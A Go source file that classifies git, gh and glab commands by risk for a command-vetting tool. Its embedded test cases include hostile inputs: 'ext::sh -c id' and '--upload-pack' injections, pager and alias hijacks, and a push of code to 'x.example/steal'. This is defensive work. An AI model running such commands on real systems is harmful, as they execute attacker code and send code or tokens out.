package risk

// logFlags are the flags of git log, diff and show that only choose what is
// printed.
const logFlags = "-p -u -s -n= -q -w -b -z -i -E -F -P -M=? -C=? -B=? -R -a -m -c -# -S= -G= -L= -U= -l= -O= --oneline --graph --all --stat=? --shortstat --numstat --dirstat=? --summary --name-only --name-status --patch --no-patch --raw --decorate=? --no-decorate " +
	"--author= --committer= --grep= --since= --until= --after= --before= --max-count= --skip= --merges --no-merges --first-parent --reverse --follow --date= --pretty=? --format= --abbrev-commit --no-abbrev-commit --abbrev=? --color=? --no-color " +
	"--unified= --word-diff=? --color-words=? --cached --staged --diff-filter= --find-renames=? --find-copies=? --no-renames --check --exit-code --quiet --no-ext-diff --no-textconv --ignore-all-space --ignore-space-change --ignore-blank-lines " +
	"--left-right --cherry-pick --cherry-mark --topo-order --date-order --branches=? --tags=? --remotes=? --not --minimal --patience --histogram --diff-algorithm= --no-prefix --relative=? --compact-summary --merge-base --no-index --show-signature --source --full-history --simplify-merges --submodule=? --patch-with-stat --full-index --binary --ignore-case --invert-grep --walk-reflogs --no-walk=? --count --simplify-by-decoration --show-pulls --text --function-context -W"

// gitRules are the subcommands of git that only look.
func gitRules() []rule {
	net := []Reason{Network}
	return []rule{
		{
			prog: "git", flags: "-c= --no-pager -P --no-optional-locks --no-replace-objects --literal-pathspecs",
			check: checkGit, before: checkGitTop,
			try: []try{
				{"git --version", Reads}, {"git -c color.ui=never log -1", Reads}, {"git -c core.pager=./x log", Unclear}, {"git -c core.fsmonitor=./x status", Unclear}, {"git -C /tmp/evil status", Unclear},
				{"git --exec-path=. log", Unclear}, {"git frob", Unclear},
			},
		},
		{
			prog: "git",
			sub: "log|diff|show|whatchanged|reflog|diff-tree|diff-index|diff-files|rev-list|range-diff|cherry|merge-base|" +
				"reflog show|stash show|stash list",
			flags:   logFlags + " -e --summary --numbered --email --is-ancestor --octopus --fork-point -r -t -v --objects --parents --children --boundary --cc --stdin --root",
			changes: "--output= --output-directory=", unclear: "--ext-diff --textconv --output-indicator-new=",
			check: checkGit,
			try: []try{
				{"git log --oneline -20", Reads}, {"git diff HEAD~1 --stat", Reads}, {"git log --output=x", Changes},
				{"git diff --ext-diff", Unclear}, {"git log --outp=x", Unclear}, {"GIT_PAGER=./x git log", Unclear},
			},
		},
		{
			prog: "git", sub: "shortlog",
			flags: "-s -n -e -c --summary --numbered --email --all --no-merges --since= --until= --group=",
			check: checkGit,
			try: []try{
				{"git shortlog -sn", Reads},
			},
		},
		{
			prog: "git", sub: "status",
			flags: "-s -b -u=? -v -z --short --branch --porcelain=? --long --verbose --untracked-files=? --ignored=? --show-stash " +
				"--ahead-behind --no-renames --column=?",
			check: checkGit,
			try: []try{
				{"git status -sb", Reads}, {"cd x && git status", Unclear},
			},
		},
		{
			prog: "git",
			sub: "rev-parse|ls-files|ls-tree|cat-file|name-rev|describe|show-ref|for-each-ref|count-objects|check-ignore|" +
				"check-attr|check-ref-format|show-branch|blame|annotate|verify-commit|verify-tag|var|version|diff-pairs|" +
				"last-modified",
			flags: "-a -b -c -d -e -f -h -i -l -L= -m -n -o -p -q -r -s -t -u -v -w -x -z -C -M -H --show-toplevel --abbrev-ref=? " +
				"--short=? --verify --git-dir --is-inside-work-tree --all --tags --long --always --dirty=? --abbrev=? " +
				"--exact-match --contains --match= --exclude= --exclude-standard --others --cached --modified --deleted " +
				"--stage --full-name --name-only --name-status --error-unmatch --heads --format= --sort= --count= --points-at= " +
				"--merged=? --no-merged=? --date= --since= --porcelain --line-porcelain --ignore-rev= --root --show-stats " +
				"--object-id --batch-check --symbolic-full-name --show-prefix --show-cdup --absolute-git-dir --git-common-dir " +
				"--local-env-vars --human-readable --candidates= --first-parent --verbose --quiet --branches --build-options",
			check: checkGit,
			try: []try{
				{"git rev-parse --abbrev-ref HEAD", Reads}, {"git blame -L 1,5 main.go", Reads}, {"git cat-file -p HEAD", Reads},
				{"git cat-file --textconv HEAD:a", Unclear},
			},
		},
		{
			prog: "git", sub: "grep",
			flags: "-n -i -I -l -L -c -v -w -E -F -P -h -H -e= -A= -B= -C= -W -p -q -r --cached --line-number --ignore-case " +
				"--count --name-only --and --or --not --heading --break --untracked --no-color --color=? --max-depth= -m=",
			unclear: "-O=? --open-files-in-pager=? --textconv --ext-grep -f= --no-index", check: checkGit,
			try: []try{
				{"git grep -n foo", Reads}, {"git grep -Osh foo", Unclear}, {"git grep --open-files-in-pager=sh pat", Unclear},
			},
		},
		{
			prog: "git", sub: "ls-remote", marks: net,
			flags: "-h -t -q --heads --tags --refs --symref --sort= --exit-code --get-url --branches",
			check: checkGitRemote,
			try: []try{
				{"git ls-remote --tags origin", Reads}, {"git ls-remote 'ext::sh -c id'", Unclear},
				{"git ls-remote --upload-pack=./x o", Unclear},
			},
		},
		{
			prog: "git", sub: "branch",
			flags: "-a -r -v -i --all --remotes --list --verbose --contains=? --no-contains=? --merged=? --no-merged=? " +
				"--points-at= --sort= --format= --show-current --no-color --color=? --column=? --no-column --abbrev=? " +
				"--ignore-case",
			changes: "-d -m -c -u= -t --delete --move --copy --set-upstream-to= --unset-upstream --track=? --no-track -q",
			danger:  "-D -M -C -f --force", unclear: "--edit-description", check: checkGitList,
			try: []try{
				{"git branch -a", Reads}, {"git branch --list 'f*'", Reads}, {"git branch -vv", Reads},
				{"git branch feature2", Changes}, {"git branch -d old", Changes}, {"git branch -D old", Danger},
				{"git branch -d --force old", Danger}, {"git branch --merged main", Reads},
			},
		},
		{
			prog: "git", sub: "tag",
			flags: "-l -n=? -i --list --contains=? --no-contains=? --merged=? --no-merged=? --points-at=? --sort= --format= " +
				"--column=? --color=? --ignore-case",
			changes: "-a -s -m= -F= -u= --annotate --sign --message= --file= -e", unclear: "-v --verify",
			danger: "-d -f --delete --force", check: checkGitList,
			try: []try{
				{"git tag -l 'v1.*'", Reads}, {"git tag v1", Changes}, {"git tag -d v1", Danger},
			},
		},
		{prog: "git", sub: "remote", flags: "-v --verbose", try: []try{{"git remote -v", Reads}}, check: checkGit},
		{
			prog: "git",
			sub: "remote get-url|worktree list|submodule status|submodule summary|notes list|notes show|bisect log|" +
				"bundle list-heads|sparse-checkout list|lfs ls-files|lfs status|lfs env",
			flags: "--all --push --porcelain -v -z --recursive --cached -l -s", check: checkGit,
			try: []try{{"git remote get-url", Reads}},
		},
		{prog: "git", sub: "remote show", marks: net, flags: "-n", check: checkGit, try: []try{{"git remote show", Reads}}},
		{
			prog: "git", sub: "config", style: gnu,
			flags: "-l -z --list --get= --get-all= --get-regexp= --get-urlmatch= --show-origin --show-scope --global --local " +
				"--system --name-only --null --type= --bool --int --path --default= --includes",
			changes: "--add --unset= --unset-all= --replace-all --rename-section --remove-section",
			unclear: "-e --edit -f= --file= --blob=", check: checkGitConfig,
			try: []try{
				{"git config --list", Reads}, {"git config --get user.name", Reads}, {"git config user.name", Reads},
				{"git config user.name bob", Changes}, {"git config core.pager ./x", Unclear},
				{"git config alias.x '!sh'", Unclear},
			},
		},
		{
			prog: "git", sub: "fsck|archive",
			flags: "--full --strict --no-dangling --connectivity-only --format= --prefix= -v -0 -9 --progress --no-progress " +
				"--name-objects",
			changes: "-o= --output= --lost-found", unclear: "--remote= --exec=", check: checkGit,
			try: []try{{"git fsck", Reads}},
		},
		{prog: "git", sub: "symbolic-ref", flags: "--short -q", most: 1, danger: "-d --delete", check: checkGit, try: []try{{"git symbolic-ref", Reads}}},
	}
}

// gitWriteRules are the subcommands of git that change or destroy.
func gitWriteRules() []rule {
	net := []Reason{Network}
	return []rule{
		{
			prog: "git",
			sub: "add|commit|mv|init|merge|revert|cherry-pick|am|apply|notes|bundle|format-patch|maintenance|pack-refs|repack|" +
				"update-index|hash-object|write-tree|read-tree|commit-tree|fast-import|mktree|mktag|replace|rerere|" +
				"sparse-checkout|stage|stripspace|citool|gui|send-email|request-pull|svn|subtree|lfs|worktree|bisect|submodule|" +
				"notes add|notes edit",
			level: Changes, why: "changes the repository", flags: "* -m= -F= -C= -c= --message=",
			unclear: "--exec= -x= --gpg-sign=? --edit-description -e --edit --extcmd= --tool= -i --interactive --patch",
			check:   checkGitWrite,
			try: []try{
				{"git add -A", Changes}, {"git commit -m 'x'", Changes}, {"git merge main", Changes},
				{"git bisect run ./x", Unclear},
			},
		},
		{
			prog: "git",
			sub: "submodule update|submodule init|submodule sync|submodule add|worktree add|worktree move|worktree lock|" +
				"worktree unlock|worktree repair|bisect start|bisect good|bisect bad|bisect skip|bisect reset|lfs pull|" +
				"lfs fetch|lfs track|stash|stash push|stash pop|stash apply|stash save|stash branch|stash create|stash store",
			level: Changes, why: "changes the repository", flags: "*",
			try: []try{
				{"git stash", Changes}, {"git stash pop", Changes},
			},
		},
		{
			prog: "git", sub: "fetch|pull|clone", level: Changes, why: "fetches from another machine", marks: net,
			flags: "--all --tags --prune -p -t -q -v -j= --depth= --rebase=? --ff-only --no-rebase --no-tags " +
				"--recurse-submodules=? --unshallow --dry-run -b= --branch= --single-branch --bare --shallow-since= -n " +
				"--no-checkout --progress --autostash -4 -6 --no-ff --ff --filter= --set-upstream -o= --origin= -a --append",
			unclear: "--upload-pack= -u= -c= --config= --template= --reference= --separate-git-dir= --exec= --mirror",
			danger:  "-f --force", check: checkGitRemote,
			try: []try{
				{"git fetch --all", Changes}, {"git pull --rebase", Changes}, {"git clone https://a/b", Changes},
				{"git fetch --upload-pack='sh -c id' r", Unclear}, {"git clone 'ext::sh -c id' x", Unclear},
			},
		},
		{
			prog: "git", sub: "push", level: Changes, why: "sends commits to another machine", marks: net,
			flags: "-u -q -v -n -4 -6 --set-upstream --tags --follow-tags --all --dry-run --quiet --verbose --porcelain " +
				"--progress --atomic --no-verify -o= --push-option=",
			unclear: "--receive-pack= --exec= --repo= --recurse-submodules= --signed=?",
			danger:  "-f -d --force --force-with-lease=? --force-if-includes --delete --mirror --prune",
			check:   checkGitPush,
			try: []try{
				{"git push origin feature", Changes}, {"git push -f", Danger}, {"git push origin :main", Danger},
				{"git push origin +main", Danger}, {"git push https://x.example/steal HEAD", Danger},
				{"git push origin --delete main", Danger},
			},
		},
		{
			prog: "git", sub: "checkout|switch", level: Changes, why: "changes the work tree",
			flags: "-b= -c= -t -q -d -l --track=? --detach --orphan= --create= --guess --no-guess --ours --theirs --no-track " +
				"--quiet --progress -m --merge",
			unclear: "-p --patch --recurse-submodules=?", danger: "-f -B= -C= --force --discard-changes --force-create=",
			check: checkGitCheckout,
			try: []try{
				{"git checkout -b feature", Changes}, {"git switch main", Changes}, {"git checkout -- f", Danger},
				{"git checkout .", Danger}, {"git checkout -f", Danger},
			},
		},
		{
			prog: "git", sub: "restore", level: Danger, why: "throws changes away", marks: []Reason{Destroys}, flags: "*",
			try: []try{
				{"git restore .", Danger},
			},
		},
		{
			prog: "git", sub: "reset", level: Changes, why: "moves the branch", flags: "-q --soft --mixed -N --quiet",
			danger: "--hard --merge --keep", unclear: "-p --patch", check: checkGitWrite,
			try: []try{
				{"git reset --hard HEAD~3", Danger}, {"git reset HEAD f", Changes}, {"git reset --har", Unclear},
			},
		},
		{
			prog: "git", sub: "clean", flags: "-n -d -x -X -q -e= -f --dry-run --force --exclude=",
			unclear: "-i --interactive", check: checkGitClean,
			try: []try{
				{"git clean -fdx", Danger}, {"git clean -nd", Reads},
			},
		},
		{
			prog: "git",
			sub: "gc|prune|filter-branch|filter-repo|update-ref|stash clear|stash drop|reflog expire|reflog delete|" +
				"worktree remove|worktree prune|submodule deinit|remote remove|remote rm|remote prune|notes remove|notes prune|" +
				"lfs prune|checkout-index|prune-packed",
			level: Danger, why: "destroys or forgets work", marks: []Reason{Destroys}, flags: "*",
			try: []try{
				{"git stash clear", Danger}, {"git reflog expire --all", Danger},
			},
		},
		{
			prog: "git", sub: "rm", flags: "*", check: checkGitRm,
			try: []try{
				{"git rm f", Danger}, {"git rm -r --cached .idea", Changes},
			},
		},
		{
			prog: "git", sub: "rebase", level: Changes, why: "rewrites commits",
			flags: "--continue --abort --skip --onto= --autostash --root --keep-base -q --no-autosquash --autosquash " +
				"--rebase-merges=?",
			unclear: "-x= --exec= -i --interactive --edit-todo", check: checkGitWrite,
			try: []try{
				{"git rebase main", Changes}, {"git rebase -x ./x HEAD~1", Unclear},
			},
		},
		{
			prog:  "git",
			sub:   "remote add|remote set-url|remote rename|remote set-head|remote set-branches|remote update",
			level: Changes, why: "changes where the repository sends to", flags: "*", marks: net, check: checkGitRemote,
			try: []try{{"git remote add", Changes}},
		},
		{
			prog: "gh|glab",
			sub: "pr list|pr view|pr status|pr diff|pr checks|issue list|issue view|issue status|repo view|repo list|run list|" +
				"run view|run watch|workflow list|workflow view|release list|release view|search repos|" +
				"search issues|search prs|search code|search commits|secret list|ruleset list|project list|issue status|ssh-key list|gist list|label list|mr list|mr view|ci list|ci status|cache list|org list|variable list",
			marks: net,
			flags: "-L= -R= -s= -q= -c -l= -a= -A= --limit= --repo= --state= --json= --jq= --label= --author= --assignee= " +
				"--workflow= --status= --event= --user= --created= --comments --log --log-failed --branch= -b= --name-only --search= -S= --job= -v --verbose --exit-status",
			try: []try{
				{"gh pr list", Reads}, {"gh pr view 1 --json title", Reads},
			},
		},
		{
			prog: "gh|glab", sub: "api", marks: net, check: checkAPI,
			flags: "--jq= -q= --paginate --slurp --template= -t= --cache= --silent -i --include -X= --method= -H= --header= " +
				"--verbose -p=",
			changes: "-f= -F= --field= --raw-field=", unclear: "--input= --hostname=",
			try: []try{
				{"gh api repos/a/b/releases/latest --jq .tag_name", Reads}, {"gh api -X DELETE repos/a/b", Danger},
				{"gh api graphql -f query=x", Unclear}, {"gh api repos/a/b/issues -f title=x", Changes},
			},
		},
		{
			prog: "gh|glab",
			sub: "pr create|pr merge|pr edit|pr comment|pr review|pr ready|pr reopen|issue create|issue edit|issue comment|" +
				"issue reopen|run rerun|run cancel|run download|release download|release edit|repo clone|repo fork|" +
				"repo sync|repo set-default|label create|mr create|mr merge|ci run|pr checkout|mr checkout|workflow run|" +
				"workflow enable|variable set",
			level: Changes, why: "changes something on the server or here", marks: net, flags: "*",
			try: []try{
				{"gh pr merge 12 --squash", Changes},
			},
		},
		{
			prog: "gh|glab", sub: "extension install|extension upgrade|alias set|codespace ssh", level: Danger,
			why: "brings in foreign code", marks: []Reason{RemoteCode, Network}, flags: "*",
			try: []try{{"gh extension install", Danger}},
		},
		{
			prog: "git", sub: "credential|credential fill|credential-store|credential-cache|credential-manager",
			level: Unclear, why: "prints passwords", marks: []Reason{Secret}, flags: "*", open: true,
			try: []try{{"git credential", Unclear}},
		},
		{prog: "gh|glab", sub: "auth token", level: Unclear, why: "prints a token", marks: []Reason{Secret}, flags: "*", try: []try{{"gh auth token", Unclear}}},
		{
			prog: "gh|glab", sub: "auth status", marks: net, flags: "-h= --hostname= -a --active", check: checkAuthStatus,
			try: []try{
				{"gh auth status", Reads}, {"gh auth status --show-token", Unclear},
			},
		},
		{
			prog: "gh|glab", sub: "gist create|repo create|release upload|release create|secret set", level: Changes,
			why: "sends data away", marks: []Reason{Network, Exfiltrates}, flags: "*",
			try: []try{{"gh gist create", Changes}},
		},
		{
			prog: "gh|glab",
			sub: "repo delete|release delete|issue delete|run delete|cache delete|secret delete|gist delete|pr close|" +
				"issue close|label delete",
			level: Danger, why: "deletes on the server", flags: "*",
			try: []try{{"gh repo delete", Danger}},
		},
	}
}
